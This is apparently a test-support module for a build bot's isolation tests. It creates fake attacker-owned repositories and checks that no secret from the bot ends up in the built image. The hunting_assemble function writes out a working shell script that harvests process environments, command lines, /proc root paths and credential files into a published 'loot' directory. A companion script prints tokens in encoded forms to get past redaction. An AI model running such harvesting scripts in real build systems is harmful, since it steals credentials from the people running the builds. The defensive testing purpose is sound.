"""Hostile repositories, for the build-isolation scenarios (tests/e2e/test_build_isolation.py
and its Kubernetes twin): what a repository writer puts in a build, and how the result is judged
from outside (every file of the pushed image searched for the bot's secrets).
"""

from __future__ import annotations

import base64
import secrets
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import yaml

from tests.fakes.github import FakeGitHub, FakeRepo
from tests.support.forges import GITHUB_TOKEN, WEBHOOK_SECRET, Status
from tests.support.git_tree import push_tree
from tests.support.image_files import image_files, secrets_in
from tests.support.names import unique
from tests.support.outcomes import final_status
from tests.support.testenv import ProvisionedEnv

# Stands for whatever secret the bot's own environment holds (S2I_BOT_GITHUB__WEBHOOK_SECRET,
# a cloud credential): the bot inherits it from the test (tests/support/bot_process.py).
CANARY_VARIABLE = "ISOLATION_TEST_CANARY"
CANARY = "canary-" + secrets.token_hex(12)
SITE: dict[str, str | bytes] = {"public/index.html": "<h1>hello</h1>\n"}


@pytest.fixture(autouse=True)
def canary_in_the_bots_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """Autouse in a module that binds it (`canary = hostile_builds.canary_in_...`)."""
    monkeypatch.setenv(CANARY_VARIABLE, CANARY)


def bot_secrets(testenv: ProvisionedEnv) -> dict[str, str]:
    return {
        "the forge token": GITHUB_TOKEN,
        "the registry password": testenv.password,
        "the webhook secret": WEBHOOK_SECRET,
        "the bot's environment": CANARY,
    }


def _s2i_yaml(image: str, **build: Any) -> str:
    entry = {"name": "web", "template": "static", "image": image,
             "triggers": {"branches": ["main"]}} | build  # fmt: skip
    return yaml.safe_dump({"builds": [entry]}, sort_keys=False)


def hostile_repo(
    github: FakeGitHub, testenv: ProvisionedEnv, work: Path, name: str,
    files: Mapping[str, str | bytes], *, symlinks: dict[str, str] | None = None,
    message: str = "a change", **build: Any,
) -> tuple[FakeRepo, str, str]:  # fmt: skip
    """A repository holding files, symlinks and a static-site .s2i.yaml (build's keys added),
    pushed with git from the clone at work; (repo, image, sha)."""
    repo = github.create_repo(unique(f"mallory/{name}"))
    image = f"{testenv.registry}/{repo.full_name}"
    tree = {**files, ".s2i.yaml": _s2i_yaml(image, **build)}
    sha = push_tree(repo.clone_url, GITHUB_TOKEN, work, tree, symlinks=symlinks or {},
                    message=message)  # fmt: skip
    return repo, image, sha


def assert_holds_no_secret(testenv: ProvisionedEnv, image: str) -> dict[str, bytes]:
    files = image_files(testenv, image)
    assert files, f"{image} has no files"
    assert secrets_in(files, bot_secrets(testenv)) == []
    return files


def config_status(github: FakeGitHub, repo: FakeRepo, sha: str) -> Status:
    """The failed s2i/config status of sha, after checking that no build status was set."""
    status = final_status(github, repo.full_name, sha, "s2i/config")
    assert status.state == "failure"
    assert not [s for s in github.statuses(repo.full_name, sha) if s["context"] == "s2i/web"]
    return status


def hunting_assemble(*places: str) -> str:
    """An assemble that takes whatever it can reach into the image: every process's
    environment and command line, `places` (where runners keep credentials) directly and
    through every process's /proc/<pid>/root, and any file named like a credential."""
    where = " ".join(places)
    return rf"""#!/bin/sh
loot=/opt/app-root/html/loot
mkdir -p "$loot"
env > "$loot/env" 2>&1
for p in /proc/[0-9]*; do
  n=${{p#/proc/}}
  cat "$p/environ" > "$loot/environ-$n" 2>/dev/null
  cat "$p/cmdline" > "$loot/cmdline-$n" 2>/dev/null
  for d in {where}; do
    cp -r "$p/root$d" "$loot/root-$n-$(echo "$d" | tr / _)" 2>/dev/null
  done
done
for d in {where} "$HOME/.docker"; do cp -r "$d" "$loot/" 2>/dev/null; done
find / -xdev \( -name git-token -o -name .dockerconfigjson -o -name auth.json \
  -o -name config.json \) 2>/dev/null | while read -r f; do
  cp "$f" "$loot/found-$(echo "$f" | tr / _)" 2>/dev/null
done
echo "---> looted $(ls "$loot" | wc -l) files"
cp -r /tmp/src/public/. /opt/app-root/html/
"""


def printing_assemble(testenv: ProvisionedEnv) -> str:
    """An assemble that prints the secrets it got hold of, encoded every way it can: base64
    (standard, URL-safe, of user:password, wrapped in other text) and URL-encoded. The test
    wrote them into the repository; a real build would have had to steal them."""
    token, password = GITHUB_TOKEN, testenv.password
    return (
        "#!/bin/sh\n"
        f"printf %s '{token}' | base64 -w0; echo\n"
        f"printf %s '{token}' | base64 -w0 | tr '+/' '-_'; echo\n"
        f"echo 'x-access-token:{token}' | base64 -w0; echo\n"
        f"printf 'prefix %s suffix' '{token}' | base64 -w0; echo\n"
        f"printf %s '{testenv.username}:{password}' | base64 -w0; echo\n"
        f"echo 'pw={quote(password, safe='')}'\n"
        "echo '---> printed'\n"
        "cp -r /tmp/src/public/. /opt/app-root/html/\n"
    )


def encoded_forms(testenv: ProvisionedEnv) -> list[str]:
    token, user, password = GITHUB_TOKEN.encode(), testenv.username, testenv.password
    return [
        base64.b64encode(token).decode(),
        base64.urlsafe_b64encode(token).decode(),
        base64.b64encode(b"x-access-token:" + token + b"\n").decode()[8:-8],
        base64.b64encode(b"prefix " + token + b" suffix").decode()[12:-12],
        base64.b64encode(f"{user}:{password}".encode()).decode(),
        quote(password, safe=""),
    ]
